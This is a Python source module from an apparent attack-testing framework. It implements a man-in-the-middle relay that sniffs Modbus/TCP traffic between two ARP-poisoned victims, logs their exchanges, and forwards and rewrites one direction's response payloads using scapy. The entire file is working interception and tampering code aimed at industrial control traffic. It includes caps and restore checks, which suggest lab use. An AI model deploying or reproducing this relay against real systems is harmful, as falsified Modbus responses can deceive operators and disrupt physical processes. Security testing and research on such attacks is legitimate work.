"""The MITM's relay: a sniffer thread that records the victims' Modbus/TCP exchanges and
forwards (and tampers) the direction that the kernel does not forward.

:class:`MitmOutcome` is the record the relay and the run fill in (``attacks.mitm``'s output).
"""

from __future__ import annotations

import logging
import threading
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from attacks.arp_poison import Victim
from attacks.mitm_tamper import TamperSpec
from attacks.mitm_tracker import ModbusExchange, ModbusTracker, rewrite_response_payload
from common.hostenv import AttackOutcome
from common.netstate import LocalInterface

log = logging.getLogger(__name__)


@dataclass(kw_only=True)
class MitmOutcome(AttackOutcome):
    """The mitm outcome: :class:`AttackOutcome` plus what was intercepted and restored.

    victims: [{name, ip, mac (resolved on the wire), plan_mac}].
    intercepted_frames: frames between the victims that reached the attacker, per direction
        (``A->B``); first_intercept_s: when the first one did (seconds from the start).
    exchanges: the first ``--max-records`` Modbus exchanges; exchange_count: all of them.
    tamper: the spec and its counts (responses_rewritten, skipped_segmented) or None.
    restore: {verified, rounds, arp_sent, frames_after_restore}.
    host_restored: the attacker host's iptables, sysctls and addresses are as before.
    """

    attacker: dict[str, str] = field(default_factory=dict)
    victims: list[dict[str, str]] = field(default_factory=list)
    forwarding: str = "kernel"
    arp_poison_sent: int = 0
    poison_rounds: int = 0
    first_intercept_s: float | None = None
    intercepted_frames: dict[str, int] = field(default_factory=dict)
    forwarded_by_scapy: int = 0
    exchanges: list[ModbusExchange] = field(default_factory=list)
    exchange_count: int = 0
    functions: dict[str, int] = field(default_factory=dict)
    unanswered_requests: int = 0
    tamper: dict[str, Any] | None = None
    restore: dict[str, Any] = field(default_factory=dict)
    host_changes: list[str] = field(default_factory=list)
    host_restored: bool | None = None
    host_differences: list[str] = field(default_factory=list)
    relay_errors: int = 0



class Relay:
    """The sniffer thread: records Modbus, forwards (and tampers) the scapy-forwarded side."""

    def __init__(self, iface: LocalInterface, a: Victim, b: Victim, port: int,
                 tamper: TamperSpec | None, max_records: int, max_forward_packets: int,
                 clock: Callable[[], float], outcome: MitmOutcome) -> None:
        self.iface = iface
        self.by_ip = {a.ip: a, b.ip: b}
        self.port = port
        self.tamper = tamper
        self.tamper_active = tamper is not None
        self.max_records = max_records
        self.max_forward_packets = max_forward_packets
        self.clock = clock
        self.outcome = outcome
        self.tracker = ModbusTracker(port)
        self.victim_frames = 0
        self.limit_reached = threading.Event()
        self._functions: Counter[str] = Counter()
        self._lock = threading.Lock()
        self._socket: Any = None
        self._sniffer: Any = None
        self.rewritten = 0
        self.skipped_segmented = 0

    def start(self) -> None:
        from scapy.config import conf
        from scapy.sendrecv import AsyncSniffer

        a, b = list(self.by_ip)
        self._socket = conf.L2socket(iface=self.iface.name)
        started = threading.Event()
        self._sniffer = AsyncSniffer(
            iface=self.iface.name, store=False, prn=self._on_frame,
            filter=f"ip and host {a} and host {b}", started_callback=started.set)
        self._sniffer.start()
        if not started.wait(10):
            raise RuntimeError("the sniffer did not start within 10 s")

    def stop(self) -> None:
        if self._sniffer is not None:
            try:
                self._sniffer.stop(join=True)
            except Exception as exc:  # a sniffer that died already: nothing to stop
                log.warning("stopping the sniffer: %s", exc)
            self._sniffer = None
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def _on_frame(self, pkt: Any) -> None:
        try:
            self._handle(pkt)
        except Exception:  # keep relaying: one odd frame must not stop the forwarder
            self.outcome.relay_errors += 1
            log.exception("relay: frame dropped")

    def _handle(self, pkt: Any) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether
        from scapy.packet import Raw

        if not pkt.haslayer(Ether) or not pkt.haslayer(IP):
            return
        eth, ip = pkt[Ether], pkt[IP]
        if eth.src.lower() == self.iface.mac or eth.dst.lower() != self.iface.mac:
            return  # our own transmissions, or frames not steered to us
        src, dst = self.by_ip.get(ip.src), self.by_ip.get(ip.dst)
        if src is None or dst is None or src is dst:
            return
        now_s = self.clock()
        with self._lock:
            self.victim_frames += 1
            key = f"{src.name}->{dst.name}"
            self.outcome.intercepted_frames[key] = self.outcome.intercepted_frames.get(key, 0) + 1
            if self.outcome.first_intercept_s is None:
                self.outcome.first_intercept_s = round(now_s, 6)
        if not pkt.haslayer(TCP):
            return
        tcp = pkt[TCP]
        payload = bytes(pkt[Raw].load) if pkt.haslayer(Raw) else b""
        tampered: dict[int, list[int]] = {}
        if self.tamper is not None and tcp.sport == self.port:
            # This direction is dropped in FORWARD: scapy must forward every segment of it.
            new_payload = payload
            if self.tamper_active and payload:
                new_payload, tampered, segmented = rewrite_response_payload(
                    payload, ip.dst, tcp.dport, self.tracker, self.tamper)
                self.skipped_segmented += int(segmented)
                if new_payload != payload:
                    self.rewritten += 1
            self._forward(pkt, dst, new_payload if new_payload != payload else None)
        exchanges = self.tracker.feed(now_s, ip.src, tcp.sport, ip.dst, tcp.dport, payload,
                                      tampered)
        for exchange in exchanges:
            self._functions[exchange.function_name] += 1
            self.outcome.exchange_count += 1
            if len(self.outcome.exchanges) < self.max_records:
                self.outcome.exchanges.append(exchange)
        if exchanges:
            self.outcome.functions = dict(self._functions)

    def _forward(self, pkt: Any, to: Victim, new_payload: bytes | None) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether
        from scapy.packet import Raw

        if self.outcome.forwarded_by_scapy >= self.max_forward_packets:
            self.limit_reached.set()
            return
        ip = pkt[IP].copy()
        if ip.ttl <= 1:
            return  # a router drops it too
        ip.ttl -= 1
        del ip.chksum
        if new_payload is not None:
            tcp = ip[TCP]
            tcp.remove_payload()
            tcp.add_payload(Raw(new_payload))
            del tcp.chksum
        self._socket.send(Ether(src=self.iface.mac, dst=to.mac) / ip)
        self.outcome.forwarded_by_scapy += 1

